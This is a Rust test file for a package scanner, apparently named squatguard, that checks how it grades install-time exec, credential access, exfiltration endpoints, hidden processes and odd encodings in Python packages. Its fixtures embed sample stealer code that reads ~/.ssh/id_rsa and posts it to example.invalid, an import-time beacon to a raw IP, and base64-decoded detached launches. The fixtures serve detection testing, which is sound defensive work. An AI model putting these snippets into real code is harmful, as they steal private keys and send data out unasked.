/// name rebound, bound in another scope, or a path chosen among several strings never lets a
/// harmless file stand for the one that runs; such an `exec` is judged as it always was (a
/// warning at install time), or the file it really runs is read.
#[test]
fn a_rebound_name_never_stands_for_the_file_that_runs() {
    let payload = "import os\nos.system(\"echo hello\")\n";
    let cases: [(&str, &str); 7] = [
        (
            "rebound",
            "from setuptools import setup\np = \"version.py\"\nq = \"payload\" + \".txt\"\np = q\nwith open(p) as f:\n    exec(f.read())\nsetup(name=\"x\")\n",
        ),
        (
            "bound twice",
            "from setuptools import setup\nf = open(\"payload.txt\")\nexec(f.read())\nwith open(\"version.py\") as f:\n    pass\nsetup(name=\"x\")\n",
        ),
        (
            "chosen from a list",
            "from setuptools import setup\nwith open([\"payload.txt\", \"version.py\"][0]) as f:\n    exec(f.read())\nsetup(name=\"x\")\n",
        ),
        (
            "another scope",
            "from setuptools import setup\nwith open(\"version.py\") as f:\n    pass\n\n\ndef run(f):\n    exec(f.read())\n\n\nrun(open(\"payload.txt\"))\nsetup(name=\"x\")\n",
        ),
        (
            "a path variable rebound after the function that opens it",
            "from setuptools import setup\np = \"version.py\"\n\n\ndef g():\n    f = open(p)\n    exec(f.read())\n\n\np = \"payload.txt\"\ng()\nsetup(name=\"x\")\n",
        ),
        (
            "a path variable chosen from a list",
            "import os\nfrom setuptools import setup\np = os.path.join(\".\", [\"payload.txt\", \"version.py\"][0])\nexec(open(p).read())\nsetup(name=\"x\")\n",
        ),
        (
            "a stale binding",
            "import os\nfrom setuptools import setup\nwith open(\"notes.txt\") as f:\n    pass\nf = open(sorted(os.listdir())[1])\nexec(f.read())\nsetup(name=\"x\")\n",
        ),
    ];
    for (what, setup_py) in cases {
        let dir = tempfile::tempdir().unwrap();
        write(dir.path(), "setup.py", setup_py);
        write(dir.path(), "payload.txt", payload);
        write(dir.path(), "version.py", "__version__ = \"1.0\"\n");
        write(dir.path(), "notes.txt", "nothing here\n");
        let out = squatguard(dir.path(), &["scan", "--format", "json"]);
        let all = findings(&out);
        // the exec, or the call that reaches it, or the payload read as what runs
        let flagged = all.iter().any(|f| {
            f["rule"] == "install-time-code"
                && (f["file"] == "payload.txt" || f["file"] == "setup.py")
        });
        assert!(flagged, "{what}: {all:?}");
    }
}

/// `runpy.run_module("pip")` reads `sys.argv` as it is when pip runs: a list the file sets and
/// then changes (appends to, sets again), or sets from an expression, is not read as pip's
/// arguments, and the launch is still named (a warning at install time), whatever a harmless
/// list beside it says.
#[test]
fn pip_run_as_a_module_reads_only_an_argv_set_once() {
    let cases: [(&str, &str); 3] = [
        (
            "appended to",
            "import runpy, sys\nfrom setuptools import setup\nsys.argv = [\"pip\", \"install\", \"requests\"]\nsys.argv.append(\"reqeusts\")\nrunpy.run_module(\"pip\", run_name=\"__main__\")\nsetup(name=\"x\")\n",
        ),
        (
            "set twice",
            "import runpy, sys\nfrom setuptools import setup\nsys.argv = [\"pip\", \"install\", \"requests\"]\nsys.argv = [\"pip\", \"install\", \"x\" + \"y\"]\nrunpy.run_module(\"pip\", run_name=\"__main__\")\nsetup(name=\"x\")\n",
        ),
        (
            "set from an expression",
            "import runpy, sys\nfrom setuptools import setup\nsys.argv = \"pip install requests\".split()\nrunpy.run_module(mod_name=\"pip\")\nsetup(name=\"x\")\n",
        ),
    ];
    // too large to walk whole: a later change could be out of sight, so nothing is read, and
    // each launch is still named (the search is made once per file, however many launches)
    let many = format!(
        "import runpy, sys\nsys.argv = [\"pip\", \"install\", \"requests\"]\n{}",
        "runpy.run_module(\"pip\")\n".repeat(25_000)
    );
    for (what, setup_py) in cases.into_iter().chain([("a huge file", many.as_str())]) {
        let (_, all) = scan_files(&[("setup.py", setup_py)]);
        assert!(
            all.iter().any(|f| f["rule"] == "install-time-code"
                && f["file"] == "setup.py"
                && f["message"].as_str().unwrap().contains("runpy.run_module")),
            "{what}: {all:?}"
        );
    }
}

/// `scan --format json` of a repository holding `files`: the exit status and the findings.
fn scan_files(files: &[(&str, &str)]) -> (Option<i32>, Vec<Value>) {
    let dir = tempfile::tempdir().unwrap();
    for (rel, text) in files {
        write(dir.path(), rel, text);
    }
    let out = squatguard(dir.path(), &["scan", "--format", "json"]);
    (out.status.code(), findings(&out))
}

/// [`scan_files`] of an installed distribution's files (a `RECORD` lists them all), with
/// `--trusted`.
fn scan_installed(files: &[(&str, &str)]) -> (Option<i32>, Vec<Value>) {
    let dir = tempfile::tempdir().unwrap();
    let mut record = String::new();
    for (rel, text) in files {
        write(dir.path(), rel, text);
        record.push_str(&format!("{rel},,\n"));
    }
    write(dir.path(), "dist-1.0.dist-info/RECORD", &record);
    let out = squatguard(dir.path(), &["scan", "--trusted", "--format", "json"]);
    (out.status.code(), findings(&out))
}

#[test]
fn severity_follows_capability_and_reach() {
    // in a repository scanned as it comes (untrusted), a file is one place: a threat and a
    // capability anywhere in it meet, whatever calls what (a hostile author can hide which
    // function runs which behind a dict of callbacks, a lambda or `getattr`)
    let split = "import os\nimport requests\n\n\ndef read_key():\n    return open(os.path.expanduser(\"~/.ssh/id_rsa\")).read()\n\n\ndef send(data):\n    requests.post(\"https://example.invalid/u\", data=data)\n";
    let hooks = "\n\nHOOKS = {\"k\": read_key, \"s\": send}\nHOOKS[\"s\"](HOOKS[\"k\"]())\n";
    for text in [split.to_owned(), format!("{split}{hooks}")] {
        let (code, all) = scan_files(&[("tools/sync.py", &text)]);
        assert_fires(&all, "credential-access", "tools/sync.py", 6, "error");
        assert_eq!(code, Some(1));
    }

    // the modules of installed distributions, with `--trusted` (`RECORD` lists them): signals
    // meet where they run together
    // a stealer that reads an SSH key and posts it in one function: an error, called or not
    let one = "import os\nimport requests\n\n\ndef steal():\n    key = open(os.path.expanduser(\"~/.ssh/id_rsa\")).read()\n    requests.post(\"https://example.invalid/u\", data=key)\n";
    let (code, all) = scan_installed(&[("tools/sync.py", one)]);
    assert_fires(&all, "credential-access", "tools/sync.py", 6, "error");
    assert_eq!(code, Some(1));

    // the same split across two functions that nothing calls unasked: a warning
    let (code, all) = scan_installed(&[("tools/sync.py", split)]);
    assert_fires(&all, "credential-access", "tools/sync.py", 6, "warning");
    assert_eq!(code, Some(0));

    // ... and called at import: both run unasked, an error
    let called = format!("{split}\n\nsend(read_key())\n");
    let (code, all) = scan_installed(&[("tools/sync.py", &called)]);
    assert_fires(&all, "credential-access", "tools/sync.py", 6, "error");
    assert_eq!(code, Some(1));

    // ... and called from a script the instructions run, in another file (a lure's `main.py`
    // calling its `utils`), by module name, through a function imported by name, or through a
    // module the script imports: they run unasked, an error
    let readme = "# Coding test\n\nRun `python main.py` to start.\n";
    let mains = [
        "import utils\n\nutils.send(utils.read_key())\n",
        "from utils import read_key, send\n\nsend(read_key())\n",
        "import helpers.net as net\n\nnet.go()\n",
    ];
    for main in mains {
        let (code, all) = scan_installed(&[
            ("README.md", readme),
            ("main.py", main),
            ("utils.py", split),
            ("helpers/__init__.py", ""),
            (
                "helpers/net.py",
                "import utils\n\n\ndef go():\n    utils.send(utils.read_key())\n",
            ),
        ]);
        assert_fires(&all, "credential-access", "utils.py", 6, "error");
        assert_eq!(code, Some(1), "{main}");
    }
    // a script that calls other functions of it: still a warning
    let (code, all) = scan_installed(&[
        ("README.md", readme),
        ("main.py", "import utils\n\nprint(utils.__name__)\n"),
        ("utils.py", split),
    ]);
    assert_fires(&all, "credential-access", "utils.py", 6, "warning");
    assert_eq!(code, Some(0));

    // a class made at import whose `__init__` reads the key and whose method, called through
    // `self`, posts it: both run unasked, an error
    let class = "import os\nimport requests\n\n\nclass Sync:\n    def __init__(self):\n        self.key = open(os.path.expanduser(\"~/.ssh/id_rsa\")).read()\n        self.push()\n\n    def push(self):\n        requests.post(\"https://example.invalid/u\", data=self.key)\n\n\nSync()\n";
    let (code, all) = scan_installed(&[("tools/__init__.py", class)]);
    assert_fires(&all, "credential-access", "tools/__init__.py", 7, "error");
    assert_eq!(code, Some(1));
    // the same class that nothing makes on import: a warning
    let unmade = class.trim_end_matches("Sync()\n");
    let (code, all) = scan_installed(&[("tools/__init__.py", unmade)]);
    assert_fires(&all, "credential-access", "tools/__init__.py", 7, "warning");
    assert_eq!(code, Some(0));

    // a path in a constant of a chained assignment, posted by a function that names either
    // name: an error, called or not; a function that names neither: a warning
    for name in ["KEYS", "DEFAULT_KEYS"] {
        let constant = format!("import os\nimport requests\n\nDEFAULT_KEYS = KEYS = \"~/.ssh/id_rsa\"\n\n\ndef push():\n    requests.post(\"https://example.invalid/u\", data=open(os.path.expanduser({name})).read())\n");
        let (code, all) = scan_installed(&[("tools/sync.py", &constant)]);
        assert_fires(&all, "credential-access", "tools/sync.py", 4, "error");
        assert_eq!(code, Some(1), "{name}");
    }
    let unused = "import os\nimport requests\n\nKEYS = \"~/.ssh/id_rsa\"\n\n\ndef push(data):\n    requests.post(\"https://example.invalid/u\", data=data)\n";
    let (code, all) = scan_installed(&[("tools/sync.py", unused)]);
    assert_fires(&all, "credential-access", "tools/sync.py", 4, "warning");
    assert_eq!(code, Some(0));

    // an SSH client that loads known_hosts in one method and connects in another (paramiko)
    let client = "import os\nimport socket\n\n\nclass SSHClient:\n    def load_system_host_keys(self):\n        self.known = os.path.expanduser(\"~/.ssh/known_hosts\")\n\n    def connect(self, host, port=22):\n        self.sock = socket.create_connection((host, port))\n";
    let (code, all) = scan_installed(&[("sshlib/client.py", client)]);
    assert_fires(&all, "credential-access", "sshlib/client.py", 7, "warning");
    assert_eq!(code, Some(0));

    // an rc loader that can fetch a URL at import (matplotlib), beside a cache folder in the
    // temporary directory and a decoding that nothing calls on import: a bare capability
    let rc = "import base64\nimport tempfile\nimport urllib.request\n\n\ndef _cachedir():\n    return tempfile.mkdtemp(prefix=\"lib-\")\n\n\ndef _open(fname):\n    _cachedir()\n    if \"://\" in fname:\n        return urllib.request.urlopen(fname).read()\n    return open(fname).read()\n\n\ndef _unpack(s):\n    return base64.b64decode(s)\n\n\nrc = _open(\"librc\")\n";
    let (code, all) = scan_installed(&[("plotlib/__init__.py", rc)]);
    assert_fires(
        &all,
        "import-time-code",
        "plotlib/__init__.py",
        21,
        "warning",
    );
    assert_eq!(code, Some(0));

    // an import-time post to a raw IP: an error
    let beacon = "import urllib.request\n\n\ndef _ping():\n    urllib.request.urlopen(\"http://45.33.32.156/c\", data=b\"x\")\n\n\n_ping()\n";
    let (code, all) = scan_installed(&[("plotlib/__init__.py", beacon)]);
    assert_fires(&all, "import-time-code", "plotlib/__init__.py", 8, "error");
    assert_fires(&all, "exfil-endpoint", "plotlib/__init__.py", 5, "error");
    assert_eq!(code, Some(1));

    // a client of a paste site in a method nothing calls unasked (IPython's `%pastebin`): a
    // warning; the same upload at import, an error
    let paste = "from urllib.request import urlopen\n\n\nclass Magics:\n    def pastebin(self, code):\n        return urlopen(\"https://dpaste.com/api/v2/\", code.encode())\n";
    let (code, all) = scan_installed(&[("shell/magics.py", paste)]);
    assert_fires(&all, "exfil-endpoint", "shell/magics.py", 6, "warning");
    assert_eq!(code, Some(0));
    let at_import =
        "from urllib.request import urlopen\n\nurlopen(\"https://dpaste.com/api/v2/\", b\"x\")\n";
    let (code, all) = scan_installed(&[("shell/magics.py", at_import)]);
    assert_fires(&all, "exfil-endpoint", "shell/magics.py", 3, "error");
    assert_eq!(code, Some(1));

    // a detached launch beside a decoding in another, uncalled function: a warning; in the
    // same function, an error
    let apart = "import base64\nimport subprocess\n\n\ndef start(cmd):\n    subprocess.Popen(cmd, start_new_session=True)\n\n\ndef unpack(s):\n    return base64.b64decode(s)\n";
    let (code, all) = scan_installed(&[("svc/run.py", apart)]);
    assert_fires(&all, "hidden-process", "svc/run.py", 6, "warning");
    assert_eq!(code, Some(0));
    let together = "import base64\nimport subprocess\n\n\ndef start(s):\n    subprocess.Popen(base64.b64decode(s).split(), start_new_session=True)\n";
    let (code, all) = scan_installed(&[("svc/run.py", together)]);
    assert_fires(&all, "hidden-process", "svc/run.py", 6, "error");
    assert_eq!(code, Some(1));
}

/// A coding cookie the scan does not decode: a warning only for a module of the user's own
/// site-packages that its `RECORD` lists and that nothing running unasked imports; an error on
/// a package's import path, and always in a repository under inspection.
#[test]
fn a_foreign_cookie_is_an_error_where_the_module_runs_unasked() {
    let site = tempfile::tempdir().unwrap();
    let site = site.path();
    let big5 = "# -*- coding: big5 -*-\nx = 1\n";
    write(site, "lib/__init__.py", "from . import enc\n");
    write(site, "lib/enc.py", big5);
    write(site, "lib/tests/__init__.py", "");
    write(site, "lib/tests/test_enc.py", big5);
    write(
        site,
        "lib-1.0.dist-info/RECORD",
        "lib/__init__.py,,\nlib/enc.py,,\nlib/tests/__init__.py,,\nlib/tests/test_enc.py,,\n",
    );
    let out = squatguard(site, &["scan", "--trusted", "--format", "json"]);
    let all = findings(&out);
    assert_fires(&all, "obfuscation", "lib/tests/test_enc.py", 1, "warning");
    assert_fires(&all, "obfuscation", "lib/enc.py", 1, "error");
    assert_eq!(out.status.code(), Some(1));
    // under inspection, the repository's RECORD relaxes nothing
    let all = scan_failing(site);
    assert_fires(&all, "obfuscation", "lib/tests/test_enc.py", 1, "error");
}
